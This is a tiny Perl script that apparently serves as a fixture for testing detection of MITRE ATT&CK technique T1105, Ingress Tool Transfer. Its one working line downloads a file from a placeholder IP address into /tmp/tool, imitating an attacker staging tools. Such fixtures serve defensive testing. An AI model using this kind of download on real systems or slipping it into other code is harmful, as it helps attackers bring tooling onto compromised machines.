#!/usr/bin/perl
# SPDX-License-Identifier: GPL-3.0-or-later
# T1105 Ingress Tool Transfer: done in another way than in tests/data/techniques, or there not at all.
use HTTP::Tiny;
HTTP::Tiny->new(timeout => 8)->mirror('http://203.0.113.60/tool', '/tmp/tool');
